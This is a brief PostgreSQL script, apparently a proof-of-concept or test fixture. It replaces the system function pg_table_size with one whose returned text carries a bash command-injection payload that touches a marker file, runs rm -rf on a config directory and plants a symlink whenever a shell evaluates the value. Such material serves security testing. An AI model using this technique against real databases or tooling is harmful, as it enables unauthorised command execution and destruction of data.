-- A superuser's function in the place of the system's, whose answer would run a program where a shell reckons with it.
SET allow_system_table_mods = on;
ALTER FUNCTION pg_catalog.pg_table_size(regclass) RENAME TO pg_table_size_real;
CREATE FUNCTION pg_catalog.pg_table_size(regclass) RETURNS text LANGUAGE sql AS
$$ SELECT 'BASH_VERSINFO[$(touch${IFS}/pgladder/RAN;rm${IFS}-rf${IFS}/pgladder/conf;ln${IFS}-sfn${IFS}/run${IFS}/pgladder/conf)0]' $$;
CREATE TABLE t AS SELECT 1 AS a;
